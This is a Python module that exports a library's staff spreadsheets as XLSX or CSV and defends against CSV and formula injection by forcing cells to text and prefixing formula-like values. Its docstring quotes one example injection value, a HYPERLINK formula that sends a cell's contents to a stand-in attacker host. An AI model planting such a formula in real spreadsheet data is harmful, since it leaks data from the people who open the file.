"""Sheets staff hand in (participants, the request register, reports) as XLSX or CSV.

One writer for all of them: a title row, Russian headings, a frozen header with filters,
column widths from the content, datetimes as dates; CSV with semicolons and a BOM so Excel
in a Russian locale opens it as it is.

Every cell of every export goes through `put`/`put_row` (XLSX) or `csv_row` (CSV), because
the text in them is typed by readers: a name like `=HYPERLINK("http://evil.example/?x="&A1)`
must stay a name, not become a live formula in the staff's Excel (issue #18). Nothing here
writes an intended formula: every figure is computed in Python.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from zoneinfo import ZoneInfo

from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

DATE_FORMAT = "DD.MM.YYYY HH:MM"
DAY_FORMAT = "DD.MM.YYYY"
MAX_WIDTH = 60
# What makes Excel or LibreOffice read a CSV value or a typed-in cell as a formula (OWASP's
# list for CSV injection: tab and CR too, since programs strip them before looking).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Sheet:
    headings: Sequence[str]
    rows: list[list[object]]


def sheet_time(moment: datetime, zone: ZoneInfo) -> datetime:
    """A moment as a spreadsheet shows it: the library's local time, with no zone (XLSX and
    CSV have none)."""
    return moment.astimezone(zone).replace(tzinfo=None)


def _width(value: object) -> int:
    if isinstance(value, datetime):
        return 16
    if isinstance(value, date):
        return 10
    return len(str(value))


def as_text(cell: Cell) -> Cell:
    """A string cell stays a string cell. openpyxl turns text starting with `=` into a formula
    and `#N/A`-like text into an error value; typing the cell back as a string keeps what a
    person wrote as they wrote it. Text that Excel would re-read as a formula when someone
    edits the cell is also marked with a quote prefix (Excel's own «'»), so it stays text."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def put(ws: Worksheet, row: int, column: int, value: object) -> Cell:
    """`ws.cell(row, column, value)` for exports: text stays text (see `as_text`)."""
    return as_text(ws.cell(row=row, column=column, value=value))


def put_row(ws: Worksheet, values: Iterable[object]) -> None:
    """`ws.append(values)` for exports: text stays text (see `as_text`)."""
    ws.append([as_text(Cell(ws, value=value)) for value in values])


def add_sheet(book: Workbook, sheet: Sheet, *, title: str, name: str) -> Worksheet:
    """A sheet with a bold title row, the headings frozen under it, filters on the headings,
    column widths from the content and dates shown as dates."""
    ws = book.create_sheet(name)
    put_row(ws, [title])
    ws["A1"].font = Font(bold=True, size=12)
    put_row(ws, sheet.headings)
    for cell in ws[2]:
        cell.font = Font(bold=True)
    widths = [_width(heading) for heading in sheet.headings]
    for row in sheet.rows:
        put_row(ws, row)
        for index, value in enumerate(row[: len(widths)]):
            widths[index] = max(widths[index], _width(value))
    ws.freeze_panes = "A3"
    last = get_column_letter(len(sheet.headings))
    ws.auto_filter.ref = f"A2:{last}{len(sheet.rows) + 2}"
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = min(max(width, 6) + 2, MAX_WIDTH)
    for cells in ws.iter_rows(min_row=3):
        for cell in cells:
            show_as_date(cell)
    fit_to_page_width(ws)
    return ws


def show_as_date(cell: Cell) -> None:
    """Datetimes and dates shown the Russian way, and still dates (sortable, filterable)."""
    if isinstance(cell.value, datetime):
        cell.number_format = DATE_FORMAT
    elif isinstance(cell.value, date):
        cell.number_format = DAY_FORMAT


def fit_to_page_width(ws: Worksheet) -> None:
    """Printed (or converted to PDF) landscape, all columns on one page's width, the
    headings repeated on every page."""
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.print_title_rows = "1:2"


def new_book() -> Workbook:
    """An empty workbook (openpyxl's default sheet removed): sheets come from add_sheet."""
    book = Workbook()
    if book.active is not None:
        book.remove(book.active)
    return book


def save(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def to_xlsx(sheet: Sheet, *, title: str, name: str) -> bytes:
    book = new_book()
    add_sheet(book, sheet, title=title, name=name)
    return save(book)


def csv_text(value: str) -> str:
    """Text a spreadsheet program would run as a formula gets a leading apostrophe (OWASP's
    advice for CSV injection); any other text is written as it is."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cell(value: object) -> object:
    """A value as CSV carries it: dates the Russian way, text defused, numbers as numbers (a
    -5 is a number to Excel, not a formula, and is left alone)."""
    if isinstance(value, datetime):
        return f"{value:%d.%m.%Y %H:%M}"
    if isinstance(value, date):
        return f"{value:%d.%m.%Y}"
    if isinstance(value, str):
        return csv_text(value)
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    """One row for `csv.writer.writerow`, every value through `csv_cell`: the one way any
    export writes CSV."""
    return [csv_cell(value) for value in values]


def to_csv(sheet: Sheet) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(csv_row(sheet.headings))
    for row in sheet.rows:
        writer.writerow(csv_row(row))
    return out.getvalue().encode("utf-8-sig")
